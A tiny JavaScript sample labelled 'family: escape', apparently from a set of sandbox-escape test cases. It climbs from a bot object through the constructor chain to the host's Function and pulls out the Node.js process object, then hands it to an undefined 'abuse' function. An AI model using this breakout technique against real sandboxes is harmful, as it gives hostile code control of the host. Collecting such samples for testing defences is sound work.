// family: escape
// the bot's class gives the host's Function
async function main (bot) {
  const find = bot.constructor.constructor('return process')
  abuse(bot, find())
}
